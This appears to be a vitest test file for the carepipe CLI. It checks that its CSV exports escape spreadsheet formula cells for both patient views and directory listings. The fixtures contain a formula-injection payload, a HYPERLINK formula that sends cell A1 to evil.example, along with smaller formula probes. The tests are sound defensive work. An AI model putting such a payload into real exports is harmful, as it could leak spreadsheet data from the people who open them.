/**
 * Every CSV carepipe writes guards cells that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`
 * first): `view run --format csv` and `directory-lookup list --format csv`, through the built binary.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDirectoryServer, type DirectoryServer } from '../fixtures/directory-server.js';
import { BACKENDS, useTestDatabase } from './helpers/db.js';
import { REPO_ROOT, runCli } from './helpers/cli.js';

const PATIENT_VIEW = path.join(REPO_ROOT, 'fixtures/view-run/patient.json');
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let cwd: string;
beforeAll(() => {
  cwd = mkdtempSync(path.join(os.tmpdir(), 'carepipe-csv-guard-'));
});
afterAll(() => rmSync(cwd, { recursive: true, force: true }));

describe('view run --format csv', () => {
  it('writes text cells starting with =, +, - or @ behind a quote, and leaves plain text alone', async () => {
    const patients = [
      { resourceType: 'Patient', id: 'p1', name: [{ use: 'official', family: HYPERLINK }], gender: '@SUM(1+1)' },
      { resourceType: 'Patient', id: 'p2', name: [{ use: 'official', family: '+33 4 72 00 00 01' }], managingOrganization: { reference: 'Organization/-2' } },
      { resourceType: 'Patient', id: 'p3', name: [{ use: 'official', family: 'Martin' }], gender: 'female' },
    ];
    const file = path.join(cwd, 'patients.ndjson');
    writeFileSync(file, patients.map((p) => JSON.stringify(p)).join('\n') + '\n');
    const result = await runCli(['view', 'run', '--view', PATIENT_VIEW, '--format', 'csv', file], { cwd });
    expect(result.stderr).not.toMatch(/error/i);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      'id,family,given,gender,birth_date,deceased,organization_id\n' +
        `p1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",[],'@SUM(1+1),,false,\n` +
        "p2,'+33 4 72 00 00 01,[],,,false,'-2\n" +
        'p3,Martin,[],female,,false,\n',
    );
  });
});

describe.each(BACKENDS)('directory-lookup list --format csv on %s', (backend) => {
  const ctx = useTestDatabase(backend);
  let server: DirectoryServer;
  beforeAll(async () => {
    server = await startDirectoryServer({
      hits: [
        {
          id: 'formula',
          fields: {
            rpps_number: '10001234567',
            first_name: '+Élodie',
            last_name: HYPERLINK,
            gender: 'F',
            email: '@evil.example',
            phone_number: '-1',
            profession_code: '21',
            profession_name: 'Pharmacien',
            finess: '690001234',
            registered_name: '=1+1',
            postcode: '69003',
            city: 'LYON',
            bimedoc_client: '0',
          },
        },
      ],
    });
  });
  afterAll(() => server.close());

  it('writes the stored names, email and phone behind a quote when a spreadsheet would run them', async () => {
    await ctx.release();
    const env = { ...ctx.test.env, DIRECTORY_BASE_URL: server.url };
    const imported = await runCli(['directory-lookup', 'import', '--rpps', '10001234567', '--finess', '690001234'], { env, cwd: ctx.test.tmp });
    expect(imported.stderr).not.toMatch(/error/i);
    expect(imported.code).toBe(0);
    const list = await runCli(['directory-lookup', 'list', '--format', 'csv'], { env, cwd: ctx.test.tmp });
    expect(list.code).toBe(0);
    expect(list.stdout).toBe(
      'finess,organization_name,finess_justice,activity_segment_code,activity_segment_name,building_number,city,postcode,bimedoc_client,rpps_number,last_name,first_name,gender,email,phone_number,profession_code,profession_name\n' +
        `690001234,'=1+1,,,,,LYON,69003,false,10001234567,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+Élodie,F,'@evil.example,'-1,21,Pharmacien\n`,
    );
  });
});
